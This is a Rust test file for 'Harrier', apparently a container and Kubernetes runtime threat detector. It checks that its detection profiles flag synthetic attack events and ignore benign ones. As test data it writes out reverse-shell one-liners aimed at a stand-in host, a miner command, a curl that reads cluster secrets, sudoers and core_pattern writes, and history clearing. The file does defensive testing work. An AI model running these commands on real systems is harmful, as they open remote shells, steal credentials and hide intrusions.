//! Every built-in threat profile over recorded event streams in Harrier's JSON-lines format:
//! each attack raises the rule named beside it (and no other profile rule), each benign event
//! none. The streams are decoded by the same decoder `harrier replay` uses.
#![allow(clippy::unwrap_used, clippy::expect_used)] // a panic is a failed test

use harrier_runtime::profiles::{self, PROFILES};
use harrier_runtime::rules::Loader;
use harrier_runtime::{Engine, decode};
use serde_json::{Value, json};

const CONTAINER: &str = "3ad7b2c1f0e9";

/// A process in a pod of Deployment `web` in namespace `shop`, running as `uid`.
fn proc(name: &str, args: &[&str], uid: u32, parent: &str) -> Value {
    json!({"pid": 4242, "ppid": 4200, "name": name, "exepath": format!("/usr/bin/{name}"),
           "args": args, "cwd": "/app", "uid": uid, "user": if uid == 0 { "root" } else { "app" },
           "ancestors": [{"pid": 4200, "name": parent, "exepath": format!("/bin/{parent}")}]})
}

fn in_pod(mut e: Value) -> Value {
    e["container"] = json!({"id": CONTAINER, "name": "web", "image": "shop/web:1.4",
                            "image_repository": "shop/web", "privileged": false});
    e["k8s"] = json!({"namespace": "shop", "pod_name": "web-6d9f7-abcde", "owner_kind": "Deployment",
                      "owner_name": "web", "service_account": "web"});
    e["hostname"] = json!("node-1");
    e
}

fn on_host(mut e: Value) -> Value {
    e["container"] = json!({"id": "host", "name": "host"});
    e["hostname"] = json!("node-1");
    e
}

fn exec(name: &str, args: &[&str], uid: u32, parent: &str) -> Value {
    json!({"source": "syscall", "time_ns": 1_700_000_000_000_000_000_i64, "type": "execve", "res": 0,
           "process": proc(name, args, uid, parent)})
}

fn open(name: &str, path: &str, write: bool, truncate: bool) -> Value {
    json!({"source": "syscall", "time_ns": 1_700_000_000_000_000_000_i64, "type": "openat", "res": 3,
           "open_flags": {"read": !write, "write": write, "truncate": truncate},
           "fd": {"num": 3, "kind": "file", "name": path},
           "process": proc(name, &[], 0, "bash")})
}

fn connect(name: &str, ip: &str, port: u16) -> Value {
    json!({"source": "syscall", "time_ns": 1_700_000_000_000_000_000_i64, "type": "connect", "res": 0,
           "fd": {"num": 5, "kind": if ip.contains(':') { "ipv6" } else { "ipv4" },
                  "name": format!("10.1.2.3:40000->{ip}:{port}"), "l4proto": "tcp",
                  "client_ip": "10.1.2.3", "client_port": 40000, "server_ip": ip, "server_port": port,
                  "connected": true},
           "process": proc(name, &[], 1000, "sh")})
}

fn syscall(kind: &str, args: &[(&str, &str)], res: i64, uid: u32) -> Value {
    json!({"source": "syscall", "time_ns": 1_700_000_000_000_000_000_i64, "type": kind, "res": res,
           "args": args.iter().map(|(k, v)| [k, v]).collect::<Vec<_>>(),
           "process": proc("app", &[], uid, "sh")})
}

fn with_fd(mut e: Value, fd: Value) -> Value {
    e["fd"] = fd;
    e
}

/// Runs every profile over `cases` written as one JSON-lines stream, and checks each event
/// raised exactly the rules expected of it.
fn check(profile: &str, cases: &[(Value, &[&str])]) {
    let p = profiles::find(profile).expect("profile exists");
    let mut loader = Loader::new();
    profiles::add_to(&mut loader, &PROFILES.iter().collect::<Vec<_>>());
    let set = loader.compile();
    let engine = Engine::new(&set);
    let stream: String = cases.iter().map(|(e, _)| format!("{e}\n")).collect();
    let (events, errors) = decode::decode(&stream);
    assert!(errors.is_empty(), "{errors:?}");
    assert_eq!(events.len(), cases.len());
    let mut positives = 0;
    for (i, (event, (_, expected))) in events.iter().zip(cases).enumerate() {
        let alerts = engine.alerts(event, "test");
        let mut got: Vec<&str> = alerts.iter().map(|a| a.rule.as_str()).collect();
        got.sort_unstable();
        let mut want = expected.to_vec();
        want.sort_unstable();
        assert_eq!(got, want, "{profile}: case {i}: {}", cases[i].0);
        for a in &alerts {
            assert!(a.tags.contains(&p.tag()), "{}: {:?}", a.rule, a.tags);
            assert_eq!(
                a.output_fields
                    .get("k8s.pod.name")
                    .and_then(Value::as_str)
                    .is_some(),
                event_has_pod(&cases[i].0)
            );
        }
        positives += usize::from(!expected.is_empty());
    }
    assert!(
        positives > 0 && positives < cases.len(),
        "{profile}: needs positive and negative cases"
    );
}

fn event_has_pod(e: &Value) -> bool {
    e.get("k8s").is_some()
}

const MINER: &[&str] = &["Harrier Crypto Miner Executed"];
const POOL: &[&str] = &["Harrier Connection to Mining Pool Port"];
const NONE: &[&str] = &[];

#[test]
fn crypto_mining() {
    check(
        "crypto-mining",
        &[
            (
                in_pod(exec(
                    "xmrig",
                    &["-o", "pool.supportxmr.com:443", "-u", "44Af..."],
                    1000,
                    "sh",
                )),
                MINER,
            ),
            (
                in_pod(exec(
                    "kworkerds",
                    &["-o", "stratum+tcp://203.0.113.7:3333", "-u", "x"],
                    1000,
                    "sh",
                )),
                MINER,
            ),
            (
                on_host(exec(
                    "systemd-helper",
                    &["--donate-level=1", "--threads=4"],
                    0,
                    "cron",
                )),
                MINER,
            ),
            (in_pod(connect("kworkerds", "203.0.113.7", 3333)), POOL),
            (in_pod(connect("python3", "198.51.100.4", 14444)), POOL),
            (
                in_pod(
                    json!({"source": "syscall", "time_ns": 1_700_000_000_000_000_000_i64, "type": "dns",
                       "dns": {"query": "gulf.moneroocean.stream", "answers": ["203.0.113.9"]},
                       "process": proc("kworkerds", &[], 1000, "sh")}),
                ),
                &["Harrier Mining Pool Name Resolved"],
            ),
            // Benign: a web server, an HTTPS call, a look-alike name, loopback on a pool port.
            (
                in_pod(exec(
                    "nginx",
                    &["-g", "daemon off;"],
                    101,
                    "containerd-shim",
                )),
                NONE,
            ),
            (in_pod(connect("curl", "203.0.113.7", 443)), NONE),
            (in_pod(connect("redis-cli", "127.0.0.1", 7777)), NONE),
            (
                in_pod(
                    json!({"source": "syscall", "time_ns": 1_700_000_000_000_000_000_i64, "type": "dns",
                       "dns": {"query": "notsupportxmr.com.example.org", "answers": []},
                       "process": proc("curl", &[], 1000, "sh")}),
                ),
                NONE,
            ),
            (
                in_pod(exec("grep", &["-r", "stratum", "/src"], 1000, "bash")),
                NONE,
            ),
        ],
    );
}

#[test]
fn privilege_escalation() {
    const SETUID: &[&str] = &["Harrier Setuid Binary Run by Non-Root User in Container"];
    const WRITE: &[&str] = &["Harrier Account or Sudo Configuration Written"];
    const NSTOOL: &[&str] = &["Harrier Namespace Tool Run in Container"];
    check(
        "privilege-escalation",
        &[
            (in_pod(exec("sudo", &["-i"], 1000, "bash")), SETUID),
            (in_pod(exec("pkexec", &["/bin/sh"], 1000, "bash")), SETUID),
            (
                in_pod(syscall("setuid", &[("uid", "0")], 0, 1000)),
                &["Harrier Non-Root Process Took Uid 0 in Container"],
            ),
            (
                in_pod(syscall(
                    "capset",
                    &[("cap_effective", "CAP_CHOWN CAP_SYS_ADMIN")],
                    0,
                    1000,
                )),
                &["Harrier Dangerous Capability Gained via capset in Container"],
            ),
            (in_pod(open("sh", "/etc/passwd", true, false)), WRITE),
            (
                in_pod(open("tee", "/etc/sudoers.d/99-backdoor", true, true)),
                WRITE,
            ),
            (on_host(open("python3", "/etc/shadow", true, false)), WRITE),
            (
                in_pod(exec(
                    "nsenter",
                    &["-t", "1", "-m", "-u", "-n", "-i", "sh"],
                    0,
                    "bash",
                )),
                NSTOOL,
            ),
            (in_pod(exec("unshare", &["-r", "sh"], 0, "bash")), NSTOOL),
            (
                in_pod(exec("mount", &["/dev/sda1", "/mnt"], 0, "bash")),
                NSTOOL,
            ),
            (
                in_pod(syscall(
                    "setns",
                    &[("fd", "3"), ("nstype", "CLONE_NEWNS")],
                    0,
                    0,
                )),
                &["Harrier Namespace Entered from Container"],
            ),
            // Benign: root running sudo (no escalation), a failed setuid, a harmless capset,
            // reading /etc/passwd, the host's passwd tool, nsenter on the host.
            (in_pod(exec("sudo", &["-u", "app", "id"], 0, "bash")), NONE),
            (in_pod(syscall("setuid", &[("uid", "0")], -1, 1000)), NONE),
            (
                in_pod(syscall(
                    "capset",
                    &[("cap_effective", "CAP_NET_BIND_SERVICE")],
                    0,
                    1000,
                )),
                NONE,
            ),
            (in_pod(open("id", "/etc/passwd", false, false)), NONE),
            (on_host(open("passwd", "/etc/shadow", true, false)), NONE),
            (
                on_host(exec("nsenter", &["-t", "1", "-m", "sh"], 0, "bash")),
                NONE,
            ),
            (in_pod(syscall("setns", &[("fd", "3")], -1, 0)), NONE),
        ],
    );
}

#[test]
fn container_escape() {
    const SOCK: &[&str] = &["Harrier Container Runtime Socket Opened from Container"];
    const HELPER: &[&str] = &["Harrier Kernel Usermode Helper Written"];
    const MOUNT: &[&str] = &["Harrier Host Device or Filesystem Mounted from Container"];
    let unix = |path: &str| json!({"num": 4, "kind": "unix", "name": path});
    check(
        "container-escape",
        &[
            (
                in_pod(with_fd(
                    syscall("connect", &[], 0, 0),
                    unix("/var/run/docker.sock"),
                )),
                SOCK,
            ),
            (
                in_pod(with_fd(
                    syscall("connect", &[], 0, 0),
                    unix("/run/containerd/containerd.sock"),
                )),
                SOCK,
            ),
            (
                in_pod(open("curl", "/run/crio/crio.sock", true, false)),
                SOCK,
            ),
            (
                in_pod(open("sh", "/proc/sys/kernel/core_pattern", true, true)),
                HELPER,
            ),
            (
                on_host(open("bash", "/proc/sys/kernel/core_pattern", true, true)),
                HELPER,
            ),
            (
                in_pod(open("sh", "/tmp/cgrp/x/release_agent", true, true)),
                &["Harrier Cgroup Release Agent Written"],
            ),
            (
                in_pod(syscall(
                    "mount",
                    &[("dev", "/dev/sda1"), ("dir", "/mnt/host"), ("type", "ext4")],
                    0,
                    0,
                )),
                MOUNT,
            ),
            (
                in_pod(syscall(
                    "mount",
                    &[("dev", "cgroup"), ("dir", "/tmp/cgrp"), ("type", "cgroup")],
                    0,
                    0,
                )),
                MOUNT,
            ),
            (
                in_pod(syscall("finit_module", &[("fd", "3")], 0, 0)),
                &["Harrier Kernel Module Loaded from Container"],
            ),
            // Benign: dockerd on the host, sysctl on the host, reading core_pattern, a tmpfs
            // mount in a container, a failed mount, the host loading a module.
            (
                on_host(with_fd(
                    syscall("connect", &[], 0, 0),
                    unix("/var/run/docker.sock"),
                )),
                NONE,
            ),
            (
                on_host(
                    json!({"source": "syscall", "time_ns": 1, "type": "openat", "res": 3,
                        "open_flags": {"write": true}, "fd": {"kind": "file", "name": "/proc/sys/kernel/core_pattern"},
                        "process": proc("systemd-sysctl", &[], 0, "systemd")}),
                ),
                NONE,
            ),
            (
                in_pod(open("cat", "/proc/sys/kernel/core_pattern", false, false)),
                NONE,
            ),
            (
                in_pod(syscall(
                    "mount",
                    &[("dev", "tmpfs"), ("dir", "/scratch"), ("type", "tmpfs")],
                    0,
                    0,
                )),
                NONE,
            ),
            (
                in_pod(syscall(
                    "mount",
                    &[("dev", "/dev/sda1"), ("dir", "/mnt"), ("type", "ext4")],
                    -1,
                    0,
                )),
                NONE,
            ),
            (on_host(syscall("finit_module", &[("fd", "3")], 0, 0)), NONE),
        ],
    );
}

#[test]
fn credential_access() {
    const TOKEN: &[&str] = &["Harrier Service Account Token Read by Unexpected Process"];
    const META: &[&str] = &["Harrier Cloud Metadata Endpoint Contacted from Container"];
    check(
        "credential-access",
        &[
            (
                in_pod(open(
                    "cat",
                    "/var/run/secrets/kubernetes.io/serviceaccount/token",
                    false,
                    false,
                )),
                TOKEN,
            ),
            (
                in_pod(open(
                    "base64",
                    "/run/secrets/kubernetes.io/serviceaccount/token",
                    false,
                    false,
                )),
                TOKEN,
            ),
            (
                in_pod(open(
                    "curl",
                    "/var/run/secrets/eks.amazonaws.com/serviceaccount/token",
                    false,
                    false,
                )),
                TOKEN,
            ),
            (
                on_host(open("python3", "/etc/kubernetes/admin.conf", false, false)),
                &["Harrier Kubeconfig Read by Non-Kubernetes Process"],
            ),
            (
                in_pod(open("cat", "/root/.kube/config", false, false)),
                &["Harrier Kubeconfig Read by Non-Kubernetes Process"],
            ),
            (
                in_pod(open("sh", "/home/app/.aws/credentials", false, false)),
                &["Harrier Cloud Credentials File Read"],
            ),
            (in_pod(connect("curl", "169.254.169.254", 80)), META),
            (in_pod(connect("python3", "fd00:ec2::254", 80)), META),
            // Benign: the workload's own process reading its token, the CA bundle read by cat,
            // kubelet reading its kubeconfig, the host contacting metadata, another link-local.
            (
                in_pod(open(
                    "java",
                    "/var/run/secrets/kubernetes.io/serviceaccount/token",
                    false,
                    false,
                )),
                NONE,
            ),
            (
                in_pod(open(
                    "cat",
                    "/var/run/secrets/kubernetes.io/serviceaccount/ca.crt",
                    false,
                    false,
                )),
                NONE,
            ),
            (
                on_host(open(
                    "kubelet",
                    "/etc/kubernetes/kubelet.conf",
                    false,
                    false,
                )),
                NONE,
            ),
            (
                on_host(connect("amazon-ssm-agent", "169.254.169.254", 80)),
                NONE,
            ),
            (in_pod(connect("node", "169.254.20.10", 53)), NONE),
        ],
    );
}

#[test]
fn reverse_shell() {
    const DUP: &[&str] = &["Harrier Standard Stream Redirected to Network Socket"];
    const CMD: &[&str] = &["Harrier Reverse Shell Command Executed"];
    let sock = |num: i64| {
        json!({"num": num, "kind": "ipv4", "name": "10.1.2.3:40000->203.0.113.5:4444",
                                 "l4proto": "tcp", "client_ip": "10.1.2.3", "client_port": 40000,
                                 "server_ip": "203.0.113.5", "server_port": 4444})
    };
    check(
        "reverse-shell",
        &[
            (in_pod(with_fd(syscall("dup2", &[], 0, 1000), sock(0))), DUP),
            (on_host(with_fd(syscall("dup3", &[], 1, 0), sock(1))), DUP),
            (
                in_pod(exec(
                    "bash",
                    &["-c", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"],
                    1000,
                    "sh",
                )),
                CMD,
            ),
            (
                in_pod(exec(
                    "nc",
                    &["-e", "/bin/sh", "203.0.113.5", "4444"],
                    1000,
                    "sh",
                )),
                CMD,
            ),
            (
                in_pod(exec(
                    "ncat",
                    &["203.0.113.5", "4444", "-e", "/bin/bash"],
                    1000,
                    "sh",
                )),
                CMD,
            ),
            (
                in_pod(exec(
                    "socat",
                    &["exec:'bash -li',pty,stderr", "tcp:203.0.113.5:4444"],
                    1000,
                    "sh",
                )),
                CMD,
            ),
            (
                in_pod(exec(
                    "python3",
                    &[
                        "-c",
                        "import socket,subprocess,os;s=socket.socket();s.connect(('203.0.113.5',4444));os.dup2(s.fileno(),0);import pty;pty.spawn('/bin/sh')",
                    ],
                    1000,
                    "sh",
                )),
                CMD,
            ),
            (
                in_pod(exec(
                    "sh",
                    &[
                        "-c",
                        "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.5 4444 >/tmp/f",
                    ],
                    1000,
                    "sh",
                )),
                CMD,
            ),
            // Benign: dup2 of a file or a pipe onto stdout, dup2 of a socket to a high fd,
            // nc as a port probe, python using sockets.
            (
                in_pod(with_fd(
                    syscall("dup2", &[], 1, 1000),
                    json!({"num": 1, "kind": "file", "name": "/var/log/app.log"}),
                )),
                NONE,
            ),
            (
                in_pod(with_fd(
                    syscall("dup2", &[], 1, 1000),
                    json!({"num": 1, "kind": "pipe"}),
                )),
                NONE,
            ),
            (
                in_pod(with_fd(syscall("dup2", &[], 7, 1000), sock(7))),
                NONE,
            ),
            (
                in_pod(exec("nc", &["-z", "-v", "db", "5432"], 1000, "sh")),
                NONE,
            ),
            (
                in_pod(exec(
                    "python3",
                    &["-c", "import socket; print(socket.gethostname())"],
                    1000,
                    "sh",
                )),
                NONE,
            ),
        ],
    );
}

#[test]
fn package_managers() {
    const PKG: &[&str] = &["Harrier Package Manager Run in Container"];
    check(
        "package-managers",
        &[
            (
                in_pod(exec("apt-get", &["install", "-y", "nmap"], 0, "sh")),
                PKG,
            ),
            (in_pod(exec("apk", &["add", "socat"], 0, "sh")), PKG),
            (
                in_pod(exec("yum", &["install", "-y", "gcc"], 0, "bash")),
                PKG,
            ),
            (
                in_pod(exec("pip3", &["install", "requests"], 1000, "bash")),
                PKG,
            ),
            (
                in_pod(exec(
                    "python3",
                    &["-m", "pip", "install", "pwntools"],
                    1000,
                    "bash",
                )),
                PKG,
            ),
            (
                in_pod(exec("npm", &["install", "-g", "something"], 1000, "bash")),
                PKG,
            ),
            // Benign: dpkg started by apt-get (same install), apt-get on the host, python running
            // a module other than pip.
            (
                in_pod(exec(
                    "dpkg",
                    &["--unpack", "/var/cache/apt/archives/nmap.deb"],
                    0,
                    "apt-get",
                )),
                NONE,
            ),
            (on_host(exec("apt-get", &["upgrade"], 0, "bash")), NONE),
            (
                in_pod(exec("python3", &["-m", "http.server"], 1000, "bash")),
                NONE,
            ),
        ],
    );
}

#[test]
fn compilers() {
    const CC: &[&str] = &["Harrier Compiler Run in Container"];
    check(
        "compilers",
        &[
            (
                in_pod(exec(
                    "gcc",
                    &["-o", "/tmp/x", "/tmp/dirtypipe.c"],
                    1000,
                    "sh",
                )),
                CC,
            ),
            (in_pod(exec("cc", &["exploit.c"], 1000, "bash")), CC),
            (
                in_pod(exec(
                    "go",
                    &["build", "-o", "/tmp/implant", "."],
                    1000,
                    "bash",
                )),
                CC,
            ),
            // Benign: cc1 and as run by the gcc driver, `go version`, gcc on the host.
            (
                in_pod(exec("cc1", &["/tmp/dirtypipe.c"], 1000, "gcc")),
                NONE,
            ),
            (in_pod(exec("as", &["-o", "/tmp/x.o"], 1000, "gcc")), NONE),
            (in_pod(exec("go", &["version"], 1000, "bash")), NONE),
            (
                on_host(exec("gcc", &["-o", "hello", "hello.c"], 1000, "make")),
                NONE,
            ),
        ],
    );
}

#[test]
fn api_discovery() {
    const TOOL: &[&str] = &["Harrier Kubernetes Client Tool Run in Container"];
    const HTTP: &[&str] = &["Harrier API Server Queried with HTTP Client from Container"];
    const CONN: &[&str] = &["Harrier Connection to API Server from Container"];
    let mut system = in_pod(connect("coredns", "10.96.0.1", 443));
    system["k8s"]["namespace"] = json!("kube-system");
    check(
        "api-discovery",
        &[
            (
                in_pod(exec("kubectl", &["auth", "can-i", "--list"], 1000, "sh")),
                TOOL,
            ),
            (in_pod(exec("peirates", &[], 1000, "sh")), TOOL),
            (
                in_pod(exec(
                    "curl",
                    &[
                        "-sk",
                        "-H",
                        "Authorization: Bearer x",
                        "https://kubernetes.default.svc/api/v1/secrets",
                    ],
                    1000,
                    "sh",
                )),
                HTTP,
            ),
            (
                in_pod(exec(
                    "wget",
                    &["-qO-", "https://10.0.0.5:10250/pods"],
                    1000,
                    "sh",
                )),
                HTTP,
            ),
            (in_pod(connect("curl", "10.96.0.1", 443)), CONN),
            (in_pod(connect("python3", "192.168.49.2", 6443)), CONN),
            (in_pod(connect("sh", "10.0.0.5", 10250)), CONN),
            // Benign: kube-system controllers, an HTTPS call elsewhere, curl to a web service,
            // kubectl on the host.
            (system, NONE),
            (in_pod(connect("curl", "203.0.113.10", 443)), NONE),
            (
                in_pod(exec(
                    "curl",
                    &["-s", "http://orders.shop.svc:8080/health"],
                    1000,
                    "sh",
                )),
                NONE,
            ),
            (
                on_host(exec("kubectl", &["get", "pods"], 1000, "bash")),
                NONE,
            ),
        ],
    );
}

#[test]
fn defense_evasion() {
    const LOG: &[&str] = &["Harrier Log File Deleted or Truncated"];
    const HIST: &[&str] = &["Harrier Shell History Cleared"];
    let unlink = |name: &str, path: &str| {
        let mut e = syscall("unlinkat", &[("name", path)], 0, 0);
        e["process"]["name"] = json!(name);
        e
    };
    let mut memfd = exec("x", &[], 1000, "python3");
    memfd["type"] = json!("execveat");
    memfd["process"]["exepath"] = json!("memfd:x (deleted)");
    memfd["process"]["exe_from_memfd"] = json!(true);
    check(
        "defense-evasion",
        &[
            (on_host(unlink("rm", "/var/log/auth.log")), LOG),
            (
                in_pod(open("sh", "/var/log/nginx/access.log", true, true)),
                LOG,
            ),
            (on_host(open("bash", "/var/log/wtmp", true, true)), LOG),
            (in_pod(open("sh", "/root/.bash_history", true, true)), HIST),
            (in_pod(unlink("rm", "/home/app/.bash_history")), HIST),
            (
                in_pod(exec("rm", &["-f", "/root/.bash_history"], 0, "bash")),
                HIST,
            ),
            (in_pod(exec("bash", &["-c", "history -c"], 0, "bash")), HIST),
            (
                in_pod(exec(
                    "ln",
                    &["-sf", "/dev/null", "/root/.bash_history"],
                    0,
                    "bash",
                )),
                HIST,
            ),
            (in_pod(memfd), &["Harrier Fileless Execution from Memfd"]),
            // Benign: logrotate, appending to a log, bash appending to its history, a normal
            // exec, rm of something else.
            (on_host(unlink("logrotate", "/var/log/syslog.1")), NONE),
            (
                in_pod(
                    json!({"source": "syscall", "time_ns": 1, "type": "openat", "res": 3,
                       "open_flags": {"write": true, "append": true, "create": true},
                       "fd": {"kind": "file", "name": "/var/log/app.log"},
                       "process": proc("app", &[], 1000, "sh")}),
                ),
                NONE,
            ),
            (
                in_pod(
                    json!({"source": "syscall", "time_ns": 1, "type": "openat", "res": 3,
                       "open_flags": {"write": true, "append": true},
                       "fd": {"kind": "file", "name": "/root/.bash_history"},
                       "process": proc("bash", &[], 0, "sshd")}),
                ),
                NONE,
            ),
            (in_pod(exec("ls", &["-la"], 0, "bash")), NONE),
            (in_pod(exec("rm", &["-rf", "/tmp/build"], 0, "bash")), NONE),
        ],
    );
}

#[test]
fn terminal_shell() {
    const SHELL: &[&str] = &["Harrier Terminal Shell in Container"];
    let on_tty = |mut e: Value, tty: i64| {
        e["process"]["tty"] = json!(tty);
        e
    };
    let orphan = |mut e: Value| {
        e["process"]["ancestors"] = json!([]);
        e["process"]["ppid"] = json!(0);
        e
    };
    check(
        "terminal-shell",
        &[
            // kubectl exec -it (runc), podman exec -t (conmon), an orphaned entrypoint.
            (in_pod(on_tty(exec("sh", &[], 0, "runc"), 34816)), SHELL),
            (in_pod(on_tty(exec("bash", &[], 0, "conmon"), 34817)), SHELL),
            (
                in_pod(orphan(on_tty(exec("ash", &[], 0, "x"), 34818))),
                SHELL,
            ),
            // No terminal (kubectl exec without -t, a shell script entrypoint).
            (
                in_pod(on_tty(exec("sh", &["-c", "echo"], 0, "runc"), 0)),
                NONE,
            ),
            (in_pod(exec("sh", &["-c", "echo"], 0, "runc")), NONE),
            // A shell from that shell; not a shell; not in a container.
            (in_pod(on_tty(exec("bash", &[], 0, "sh"), 34816)), NONE),
            (
                in_pod(on_tty(exec("cat", &["/etc/hostname"], 0, "runc"), 34816)),
                NONE,
            ),
            (on_host(on_tty(exec("bash", &[], 0, "sshd"), 34816)), NONE),
        ],
    );
}

#[test]
fn every_profile_has_a_test() {
    let tested = [
        "api-discovery",
        "compilers",
        "container-escape",
        "credential-access",
        "crypto-mining",
        "defense-evasion",
        "package-managers",
        "privilege-escalation",
        "reverse-shell",
        "terminal-shell",
    ];
    let names: Vec<_> = PROFILES.iter().map(|p| p.name).collect();
    assert_eq!(names, tested);
}

fn saturation(t: i64) -> Value {
    in_pod(
        json!({"source": "syscall", "time_ns": t, "type": "container_resource_signal",
        "process": {},
        "signal": {"name": "cpu_saturation", "workload": "k8s:shop/web/web", "duration_ns": 30_000_000_000_u64,
                   "samples": 3, "cpu_cores": 0.987, "cpu_peak_cores": 1.0, "cpu_reference_cores": 1.0,
                   "cpu_utilization": 0.987, "baseline_cores": 0.031, "baseline_scale_cores": 0.05,
                   "baseline_source": "workload", "score": 19.1, "memory_bytes": 52_428_800_u64}}),
    )
}

/// The resource-signal rules of the crypto-mining profile, through the correlator: a
/// saturation signal alone is a NOTICE; with miner evidence of the same container, before or
/// after it, the combined CRITICAL rule fires once; another container's miner does not count.
#[test]
fn crypto_mining_resource_signals() {
    use harrier_runtime::{Correlator, CorrelatorConfig};
    let mut loader = Loader::new();
    profiles::add_to(&mut loader, &PROFILES.iter().collect::<Vec<_>>());
    let set = loader.compile();
    let engine = Engine::new(&set);
    let t0 = 1_700_000_000_000_000_000_i64;
    let s = 1_000_000_000_i64;
    let mut miner = in_pod(exec(
        "xmrig",
        &["-o", "pool.supportxmr.com:443"],
        1000,
        "sh",
    ));
    miner["time_ns"] = json!(t0 + 5 * s);
    let mut other_miner = miner.clone();
    other_miner["container"]["id"] = json!("99887766aabb");
    let stream = [
        saturation(t0),
        other_miner,
        miner.clone(),
        miner,
        saturation(t0 + 300 * s),
    ]
    .iter()
    .map(|e| format!("{e}\n"))
    .collect::<String>();
    let (events, errors) = decode::decode(&stream);
    assert!(errors.is_empty(), "{errors:?}");
    let mut c = Correlator::new(CorrelatorConfig::default());
    let got: Vec<Vec<String>> = events
        .iter()
        .map(|e| {
            let mut r: Vec<String> = c
                .alerts(&engine, e, "test")
                .into_iter()
                .map(|a| a.rule)
                .collect();
            r.sort();
            r
        })
        .collect();
    const SAT: &str = "Harrier Sustained CPU Saturation";
    const BOTH: &str = "Harrier Sustained CPU Saturation with Mining Evidence";
    const MINER: &str = "Harrier Crypto Miner Executed";
    assert_eq!(
        got,
        vec![
            vec![SAT.to_string()],
            vec![MINER.to_string()],
            vec![MINER.to_string(), BOTH.to_string()],
            vec![MINER.to_string()],
            vec![SAT.to_string(), BOTH.to_string()],
        ]
    );
    // Evaluated without the correlator, a signal has no evidence: only the NOTICE.
    let alerts = engine.alerts(&events[0], "test");
    assert_eq!(alerts.len(), 1);
    assert_eq!(alerts[0].output_fields["signal.cpu_millicores"], "987");
    assert_eq!(alerts[0].output_fields["signal.cpu_pct"], "99");
    assert_eq!(alerts[0].output_fields["signal.baseline_millicores"], "31");
    assert_eq!(alerts[0].output_fields["signal.duration"], "30000000000");
    assert_eq!(alerts[0].output_fields["k8s.pod.name"], "web-6d9f7-abcde");
}
